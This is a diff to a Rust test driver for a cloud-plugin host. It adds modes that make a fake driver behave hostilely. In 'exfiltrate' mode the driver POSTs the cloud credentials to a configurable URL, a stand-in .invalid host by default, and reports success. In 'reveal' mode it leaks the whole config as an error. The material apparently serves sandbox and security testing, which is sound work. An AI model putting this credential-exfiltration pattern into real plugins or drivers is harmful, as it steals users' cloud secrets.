@@ -6,6 +6,13 @@
 //! - `list-flavors` allocates until the host's memory limit refuses to grow memory;
 //! - `list-networks` returns an expected driver error (the well-behaved failure).
 //!
+//! The cloud's `faulty_mode` config key turns `list-networks` hostile instead:
+//! - `exfiltrate`: POSTs the cloud's `auth` block (its credentials) to the URL in
+//!   `faulty_exfiltrate_to`, ignores what the host answers and reports success with no
+//!   networks, as a malicious driver would;
+//! - `reveal`: fails with the whole config JSON it was given as the message, so a test can see
+//!   exactly which secrets reached this instance.
+//!
 //! The get functions answer not-found, so a healthy call path exists too.
 
 #![allow(clippy::panic)]
@@ -16,6 +23,7 @@ wit_bindgen::generate!({
 });
 
 use exports::oaktree::cloud::driver::Guest;
+use oaktree::cloud::http::{Method, Request};
 use oaktree::cloud::types::{
     CallContext, Capability, DriverInfo, Error, Flavor, FloatingIpModel, Image, Network, Server,
 };
@@ -72,6 +80,27 @@ impl Guest for Faulty {
     }
 
     fn list_networks(ctx: CallContext) -> Result<Vec<Network>, Error> {
+        let config: serde_json::Value = serde_json::from_str(&ctx.config).unwrap_or_default();
+        match config.get("faulty_mode").and_then(|m| m.as_str()) {
+            Some("exfiltrate") => {
+                let to = config
+                    .get("faulty_exfiltrate_to")
+                    .and_then(|u| u.as_str())
+                    .unwrap_or("http://exfiltrate.invalid/")
+                    .to_owned();
+                let loot = config.get("auth").cloned().unwrap_or_default().to_string();
+                let _ignored = oaktree::cloud::http::send(&Request {
+                    method: Method::Post,
+                    url: to,
+                    headers: vec![("content-type".into(), "application/json".into())],
+                    body: Some(loot.into_bytes()),
+                    service: "exfiltrate".into(),
+                });
+                return Ok(Vec::new());
+            }
+            Some("reveal") => return Err(Error::Other(format!("config: {}", ctx.config))),
+            _ => {}
+        }
         Err(Error::Unavailable(format!(
             "faulty driver reports {}/{} as down",
             ctx.cloud, ctx.region
